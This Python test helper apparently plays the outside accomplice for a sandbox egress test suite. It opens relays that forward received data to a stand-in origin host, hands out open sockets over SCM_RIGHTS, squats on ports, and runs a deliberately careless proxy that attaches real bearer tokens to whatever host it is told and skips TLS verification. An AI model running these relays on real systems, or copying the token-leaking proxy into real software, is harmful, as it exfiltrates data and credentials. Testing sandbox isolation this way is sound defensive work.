# SPDX-License-Identifier: BSD-2-Clause
"""Accomplices outside of every bottle.

outsider.py relay DIRECTORY   whatever reaches its sockets, it sends to the origin
outsider.py knock             connects to each port and address that it reads from standard input,
                              and sends a datagram there, for three seconds
outsider.py naive DIR PORT    a proxy that believes what it is told, to play games.py against
outsider.py sink              listens for DNS by TCP at the origin
outsider.py squat PROXY DNS   squats on our ports"""
import array
import os
import socket
import ssl
import sys
import threading
import time

import h2_frames as h2

ORIGIN = ("203.0.113.10", 9)
HOST = "203.0.113.1"
TCP_PORT, UDP_PORT = 7777, 7778


def forward(data):
    if data:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.sendto(b"relayed " + data, ORIGIN)


def serve_stream(listener):
    while True:
        connection, _ = listener.accept()
        connection.settimeout(1)
        try:
            forward(connection.recv(4096))
        except OSError:
            pass
        connection.close()


def serve_datagrams(receiver):
    while True:
        try:
            forward(receiver.recv(4096))
        except OSError:
            time.sleep(0.01)


def give_sockets(listener):
    """To everybody who connects: a UDP socket, a connected TCP socket, and a raw one."""
    while True:
        connection, _ = listener.accept()
        tcp = socket.create_connection(("203.0.113.10", 7000), 2)
        sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM), tcp,
                   socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)]
        try:
            connection.sendmsg([b"here"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS,
                                            array.array("i", [s.fileno() for s in sockets]))])
        except OSError:
            pass
        connection.close()
        for s in sockets:
            s.close()


def listening(family, kind, address):
    s = socket.socket(family, kind)
    if family != socket.AF_UNIX:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if family == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    s.bind(address)
    if family == socket.AF_UNIX and isinstance(address, str) and not address.startswith("\0"):
        os.chmod(address, 0o777)
    if kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        s.listen(64)
    return s


LATE = {"stream": socket.SOCK_STREAM, "seqpacket": socket.SOCK_SEQPACKET,
        "dgram": socket.SOCK_DGRAM}


def ever_new(directory):
    """Relays on paths that were not there a moment ago."""
    for number in range(1 << 30):
        paths = []
        for name, kind in LATE.items():
            paths.append(f"{directory}/late-{name}-{number}")
            s = listening(socket.AF_UNIX, kind, paths[-1])
            serve = serve_datagrams if name == "dgram" else serve_stream
            threading.Thread(target=serve, args=(s,), daemon=True).start()
        time.sleep(2)
        for path in paths:
            os.unlink(path)


def pull(directory):
    """Calls whatever is bound there, and sends on what it gets."""
    os.mkdir(directory)
    os.chmod(directory, 0o1777)
    while True:
        for name in os.listdir(directory):
            for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
                with socket.socket(socket.AF_UNIX, kind) as s:
                    s.settimeout(1)
                    try:
                        s.connect(f"{directory}/{name}")
                        forward(s.recv(4096))
                    except OSError:
                        pass
        time.sleep(0.2)


def relay(directory):
    unix, inet, inet6 = socket.AF_UNIX, socket.AF_INET, socket.AF_INET6
    stream, dgram = socket.SOCK_STREAM, socket.SOCK_DGRAM
    jobs = [(serve_stream, listening(unix, stream, f"{directory}/relay")),
            (serve_stream, listening(unix, stream, "\0egress-attack-relay")),
            (serve_datagrams, listening(unix, dgram, f"{directory}/relay-dgram")),
            (serve_datagrams, listening(unix, dgram, "\0egress-attack-relay-dgram")),
            (give_sockets, listening(unix, stream, f"{directory}/give")),
            (give_sockets, listening(unix, stream, "\0egress-attack-give")),
            (serve_stream, listening(inet, stream, ("127.0.0.1", TCP_PORT))),
            (serve_stream, listening(inet6, stream, ("::1", TCP_PORT))),
            (serve_stream, listening(inet, stream, (HOST, TCP_PORT))),
            (serve_datagrams, listening(inet, dgram, ("127.0.0.1", UDP_PORT))),
            (serve_datagrams, listening(inet6, dgram, ("::1", UDP_PORT))),
            (serve_datagrams, listening(inet, dgram, (HOST, UDP_PORT)))]
    for function, s in jobs:
        threading.Thread(target=function, args=(s,), daemon=True).start()
    threading.Thread(target=ever_new, args=(directory,), daemon=True).start()
    threading.Thread(target=pull, args=(f"{directory}/pull",), daemon=True).start()
    # for pidfd_getfd()
    open_socket = socket.socket(inet, dgram)
    print("ready", flush=True)
    threading.Event().wait()
    open_socket.close()


def knock_at(port, host):
    end = time.monotonic() + 3
    while time.monotonic() < end:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"knock", (host, port))
        try:
            with socket.create_connection((host, port), 0.5) as s:
                s.settimeout(0.5)
                s.sendall(b"give me the data\n")
                s.recv(4096)
        except OSError:
            pass
        time.sleep(0.1)


def splice(source, target):
    try:
        while data := source.recv(65536):
            target.sendall(data)
    except OSError:
        pass
    try:
        target.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def with_secrets(head, named, secrets):
    return head + "".join(f"\r\n{header}: {value}" for host, header, value in secrets if host in named)


def call(name, port):
    out = socket.create_connection((name, int(port)), 5)
    if port == "443":
        out = ssl._create_unverified_context().wrap_socket(out, server_hostname=name)
    return out


def believe(connection, directory, secrets):
    """What a careless proxy does: any of the names that it is told releases that name's credential,
    and what follows the first request is passed on unread."""
    head = connection.recv(4096).decode("latin-1")
    name, _, port = head.split(" ")[1].rpartition(":")
    connection.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
    sni = []
    if port == "443":
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(f"{directory}/origin.pem", f"{directory}/origin.key")
        context.sni_callback = lambda _s, told, _c: sni.append(told)
        context.set_alpn_protocols(["h2", "http/1.1"])
        connection = context.wrap_socket(connection, server_side=True)
    data = connection.recv(65536)
    if data.startswith(b"PRI * HTTP/2"):
        h2.exactly(connection, len(h2.PREFACE) - len(data))
        believe2(connection, name, port, sni, secrets)
        return
    first, _, rest = data.partition(b"\r\n\r\n")
    text = first.decode("latin-1")
    named = {name, *sni, *(line[6:].strip() for line in text.split("\r\n")
                           if line.lower().startswith("host: "))}
    out = call(name, port)
    out.sendall(with_secrets(text, named, secrets).encode("latin-1") + b"\r\n\r\n" + rest)
    threading.Thread(target=splice, args=(connection, out), daemon=True).start()
    splice(out, connection)


def translate(fields):
    """Into HTTP/1.1, as somebody would who checks nothing; the last of each pseudo field counts."""
    pseudo = {k: v for k, v in fields if k.startswith(":")}
    head = f"{pseudo.get(':method')} {pseudo.get(':path', pseudo.get(':authority'))} HTTP/1.1"
    lines = [("host", v) for k, v in fields if k == ":authority"]
    lines += [(k, v) for k, v in fields if not k.startswith(":")]
    hosts = {v for k, v in lines if k == "host"}
    return "\r\n".join([head, *(f"{k}: {v}" for k, v in lines)]), hosts


def believe2(connection, name, port, sni, secrets):
    """The same in HTTP/2: each stream as one request to the host that was dialled."""
    connection.sendall(h2.frame(h2.SETTINGS, 0, 0))
    blocks, bodies = {}, {}
    while True:
        kind, flags, stream, payload = h2.read_frame(connection)
        if kind in (h2.HEADERS, h2.CONTINUATION):
            blocks[stream] = blocks.get(stream, b"") + payload
            ended = flags & h2.END_STREAM if kind == h2.HEADERS else flags & h2.END_HEADERS
        elif kind == h2.DATA:
            bodies[stream] = bodies.get(stream, b"") + payload
            ended = flags & h2.END_STREAM
        else:
            continue
        if not ended or (kind == h2.HEADERS and not flags & h2.END_HEADERS):
            continue
        head, hosts = translate(h2.fields_of(blocks[stream]))
        with call(name, port) as out:
            out.settimeout(0.3)
            head = with_secrets(head, {name, *sni, *hosts}, secrets)
            out.sendall(head.encode("latin-1") + b"\r\n\r\n" + bodies.get(stream, b""))
            try:
                out.recv(65536)
            except OSError:
                pass
        connection.sendall(h2.frame(h2.HEADERS, h2.END_STREAM | h2.END_HEADERS, stream,
                                    h2.block([(":status", "200")])))


def naive(directory, port):
    secrets = [("api.example.test", "Authorization", "Bearer " + os.environ["E2E_TOKEN_0"]),
               ("second.example.test", "x-api-key", os.environ["E2E_TOKEN_1"])]
    listener = listening(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port))

    def serve(connection):
        try:
            believe(connection, directory, secrets)
        except (OSError, ValueError, IndexError):
            connection.close()
    print("ready", flush=True)
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=serve, args=(connection,), daemon=True).start()


def sink():
    """Takes DNS by TCP at the origin, so that what is written there can be seen."""
    listener = listening(socket.AF_INET, socket.SOCK_STREAM, ("203.0.113.10", 53))
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=splice, args=(connection, connection), daemon=True).start()


def squat(ports):
    """On our ports when we are dead, in no bottle, to relay what comes."""
    proxy, dns = ports
    jobs = []
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        jobs.append((serve_stream, listening(family, socket.SOCK_STREAM, (host, proxy))))
        if dns:
            jobs.append((serve_datagrams, listening(family, socket.SOCK_DGRAM, (host, dns))))
            jobs.append((serve_stream, listening(family, socket.SOCK_STREAM, (host, dns))))
    for function, s in jobs:
        threading.Thread(target=function, args=(s,), daemon=True).start()
    print("ready", flush=True)
    threading.Event().wait()


def knock():
    for line in sys.stdin:
        port, host = line.split()
        threading.Thread(target=knock_at, args=(int(port), host), daemon=True).start()


def main():
    if sys.argv[1] == "relay":
        relay(sys.argv[2])
    elif sys.argv[1] == "naive":
        naive(sys.argv[2], int(sys.argv[3]))
    elif sys.argv[1] == "sink":
        sink()
    elif sys.argv[1] == "squat":
        squat([int(x) for x in sys.argv[2:]])
    else:
        knock()


if __name__ == "__main__":
    main()
